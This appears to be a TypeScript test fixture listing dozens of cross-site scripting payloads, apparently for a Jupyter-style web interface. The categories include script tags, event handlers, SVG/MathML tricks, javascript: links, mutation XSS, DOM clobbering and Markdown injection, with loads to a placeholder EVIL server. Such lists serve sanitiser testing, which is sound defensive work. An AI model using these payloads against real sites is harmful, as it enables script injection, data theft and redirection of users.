/**
 * Texts that try to run code in the page that shows them, to load something, to
 * leave the page, or to change what its scripts find in it. `EVIL` stands for
 * the origin of a server that records requests. Code that runs calls `hacked()`.
 */
export const XSS_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    '<script>hacked()</script>',
    '<p>a</p><ScRiPt\n>hacked()</sCrIpT  >',
    '<script src="EVIL/script.js"></script>',
    '<scr<script>ipt>hacked()</scr</script>ipt>',
    '<script type="module">hacked()</script>',
    '<!--><script>hacked()</script>-->'
  ],
  handlers: [
    '<img src=x onerror=hacked()>',
    '<img src="EVIL/picture.png" onload="hacked()">',
    '<p onmouseover="hacked()" onclick="hacked()">over</p>',
    '<div tabindex="0" autofocus onfocus="hacked()">focus</div>',
    '<input autofocus onfocus=hacked()>',
    '<details open ontoggle=hacked()><summary>more</summary></details>',
    '<marquee onstart=hacked()>moves</marquee>',
    '<body onload=hacked() onpageshow=hacked()>',
    '<video><source onerror=hacked()></video>',
    '<p style="animation-name: rotation" onanimationstart="hacked()">a</p>',
    '<img src=x:x onerror\n=\n"&#104;acked()">'
  ],
  drawings: [
    '<svg onload=hacked()></svg>',
    '<svg><script>hacked()</script></svg>',
    '<svg><animate onbegin=hacked() attributeName=x dur=1s></animate></svg>',
    '<svg><a xlink:href="javascript:hacked()"><text y="20">link</text></a></svg>',
    '<svg><foreignObject><img src=x onerror=hacked()></foreignObject></svg>',
    '<svg><use href="EVIL/use.svg#x"></use></svg>',
    '<svg><image href="EVIL/image.png" /></svg>'
  ],
  formulas: [
    '<math><maction actiontype="statusline" xlink:href="javascript:hacked()">x</maction></math>',
    '<math href="javascript:hacked()">link</math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=hacked()></style></mglyph></table></mtext></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=hacked()></annotation-xml></math>'
  ],
  frames: [
    '<iframe src="javascript:parent.hacked()"></iframe>',
    '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
    '<iframe src="EVIL/frame"></iframe>',
    '<object data="javascript:parent.hacked()"></object>',
    '<object data="EVIL/object"></object>',
    '<embed src="EVIL/embed.swf">',
    '<frameset><frame src="javascript:parent.hacked()"></frameset>',
    '<portal src="EVIL/portal"></portal>'
  ],
  links: [
    '<a href="javascript:hacked()">link</a>',
    '<a href=" \u0001java\tscr\nipt:hacked()">link</a>',
    '<a href="&#106;&#97;vascript&colon;hacked()">link</a>',
    '<a href="JaVaScRiPt&#58;hacked()">link</a>',
    '<a href="data:text/html,<script>opener.hacked()</script>">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==">link</a>',
    '<a href="vbscript:hacked()">link</a>',
    '<a href="/lab?reset" target="_top">link</a>',
    '<map name="m"><area shape="default" href="javascript:hacked()"></map><img usemap="#m" src="x">',
    '<a href="#" ping="EVIL/ping" data-commandlinker-command="application:reset-layout">link</a>'
  ],
  styles: [
    '<style>@import "EVIL/style.css";</style>',
    '<link rel="stylesheet" href="EVIL/link.css">',
    '<link rel="prefetch" href="EVIL/prefetch">',
    '<p style="background: url(EVIL/background.png)">a</p>',
    '<p style="position: fixed; inset: 0; z-index: 99999">over all</p>',
    '<style>body { display: none }</style>',
    '<table background="EVIL/table.png"><tr><td background="EVIL/td.png">a</td></tr></table>'
  ],
  forms: [
    '<form action="EVIL/form"><button autofocus>Accept</button></form>',
    '<form id="f" action="javascript:hacked()"></form><button form="f">Go</button>',
    '<button formaction="javascript:hacked()" type="submit">Go</button>',
    '<isindex action="javascript:hacked()" type="image">',
    '<form><input type="image" src="EVIL/input.png"></form>'
  ],
  documents: [
    '<meta http-equiv="refresh" content="0; url=EVIL/refresh">',
    '<meta http-equiv="refresh" content="0; url=javascript:hacked()">',
    '<base href="EVIL/"><img src="base.png">',
    '<html><head><title>x</title></head><body><p>a</p></body></html>'
  ],
  mutations: [
    '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>',
    '<template><img src=x onerror=hacked()></template>',
    '<textarea><img title="</textarea><img src=x onerror=hacked()>"></textarea>',
    '<style><a title="</style><img src=x onerror=hacked()>"></style>',
    '<svg></p><style><a id="</style><img src=x onerror=hacked()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hacked()>',
    '<table><a href="javascript:hacked()"><tr><td>a</td></tr></a></table>',
    '<xmp><img title="</xmp><img src=x onerror=hacked()>"></xmp>',
    '<![CDATA[<img src=x onerror=hacked()>]]>',
    '<p title="<!--"><img src=x onerror=hacked()><!-- -->"></p>'
  ],
  clobbering: [
    '<p id="jupyter-config-data">{"baseUrl": "EVIL/"}</p>',
    '<img name="getElementById"><img name="cookie"><img name="body">',
    '<form id="jupyterapp"><input name="commands"></form>',
    '<a id="galata"></a><a id="galata" name="getPlugin" href="EVIL/a">a</a>',
    '<p class="jp-Dialog-button jp-mod-accept" id="main">Accept</p>'
  ],
  openers: [
    '<a href="https://example.org/a" target="_top" rel="opener">link</a>',
    '<a href="http://example.org/b" target="jupyter">link</a>'
  ],
  markdown: [
    '**a** [link](javascript:hacked())',
    '**a** [link](<java&#x73;cript:hacked()>)',
    '**a** ![picture](EVIL/markdown.png)',
    '**a** ![x](x "onerror=hacked()")',
    '**a** <img src=x onerror=hacked()>',
    '# a\n\n<script>hacked()</script>',
    '[link][1]\n\n[1]: javascript:hacked()',
    '**a** <javascript:hacked()>',
    '```html\n<img src=x onerror=hacked()>\n```\n',
    '```mermaid\ngraph TD; A["<img src=x onerror=hacked()>"];\nclick A "javascript:hacked()"\n```\n',
    '**a** $\\href{javascript:hacked()}{x}$ `<img src=x onerror=hacked()>`'
  ],
  plain: ['Read < this > & "that" <', '&lt;img src=x onerror=hacked()&gt;']
};
